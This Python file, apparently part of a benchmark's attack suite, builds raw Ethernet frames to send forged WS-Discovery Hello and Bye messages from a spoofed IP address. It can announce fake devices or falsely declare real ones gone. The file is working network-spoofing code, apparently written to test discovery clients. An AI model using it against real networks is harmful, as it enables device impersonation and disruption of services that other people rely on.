"""Host that writes its own link-layer frames, and so speaks from any address: forged Hello and Bye.

The frames have its own MAC: with another's, a switch would send that one's traffic here, and what then does not answer
is away indeed.

Settings: ``what`` (``hello`` or ``bye``), ``source`` (address it claims), ``xaddr``, ``reference``, ``count``,
``every`` (seconds).
"""

from __future__ import annotations

import socket
import struct
import time

from benchmarks.attacks.rogues.device import GROUP, Device, settings, tell


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    data += b"\x00" * (len(data) % 2)
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def frame(payload: bytes, source: str, source_mac: bytes) -> bytes:
    """Ethernet, IPv4 and UDP to the WS-Discovery group (RFC 894, 791, 768; group MAC by RFC 1112)."""
    group = socket.inet_aton(GROUP[0])
    udp = struct.pack("!HHHH", GROUP[1], GROUP[1], 8 + len(payload), 0) + payload
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 1, 0, 1, 17, 0) + socket.inet_aton(source) + group
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    to = b"\x01\x00\x5e" + bytes((group[1] & 0x7F,)) + group[2:]
    return to + source_mac + b"\x08\x00" + head + udp


class Forged(Device):
    """A device that exists in what is said of it only."""

    announced = ""

    @property
    def xaddr(self) -> str:
        return self.announced


def main() -> None:
    given = settings()
    said = Forged(given["source"], reference=given["reference"], name="Forged")
    said.announced = given.get("xaddr", "")
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
        link.bind(("eth0", 0))
        own: bytes = link.getsockname()[4]
        for _ in range(given["count"]):
            link.send(frame(said.hello() if given["what"] == "hello" else said.bye(), given["source"], own))
            time.sleep(given["every"])
    tell("done")


if __name__ == "__main__":
    main()
